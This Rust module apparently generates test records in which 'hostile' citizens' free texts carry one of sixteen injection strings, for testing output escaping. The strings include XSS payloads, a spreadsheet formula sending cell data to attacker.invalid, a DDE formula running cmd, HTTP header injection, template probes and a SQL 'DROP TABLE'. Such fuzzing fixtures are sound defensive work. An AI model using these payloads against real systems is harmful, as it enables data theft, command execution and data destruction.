//! How a citizen's free texts sound: plain, marked with the citizen's number, or hostile.
//!
//! Every free text of every answer goes through here, so that no field is forgotten.

use super::seed::hash;

/// The strings a hostile citizen's records carry: markup, attribute breakers, spreadsheet formulas, direction
/// overrides, line breaks, templates, and length.
pub(crate) const ATTACKS: [&str; 16] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "=HYPERLINK(\"http://attacker.invalid/\"&A1,\"見る\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1\t-2",
    "\u{202e}txt.exe\u{202c}\u{2066}甲\u{2069}",
    "一行目\r\nSet-Cookie: stolen=1\r\n\r\n二行目",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{7*7}<%= 7*7 %>",
    "<svg/onload=alert(1)><!-- ]]> &lt;b&gt; &amp;amp;",
    "javascript:alert(1)//%0d%0a%3Cscript%3E",
    "'; DROP TABLE records; --",
    "長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長長",
];

/// A citizen's manner of speech.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Voice {
    /// As written.
    Plain,
    /// Followed by the mark `㋐<nine digits>`.
    Marked(String),
    /// Followed by one of the [`ATTACKS`], chosen by the text.
    Hostile,
}

impl Voice {
    /// The text as this citizen's records carry it.
    pub(crate) fn say(&self, text: &str) -> String {
        match self {
            Self::Plain => text.to_owned(),
            Self::Marked(mark) => format!("{text}{mark}"),
            Self::Hostile => {
                let attack = ATTACKS[(hash(text) % ATTACKS.len() as u64) as usize];
                // A formula only works, and is only a test, at the beginning of a cell.
                if attack.starts_with(['=', '@', '+']) { format!("{attack}{text}") } else { format!("{text}{attack}") }
            }
        }
    }
}
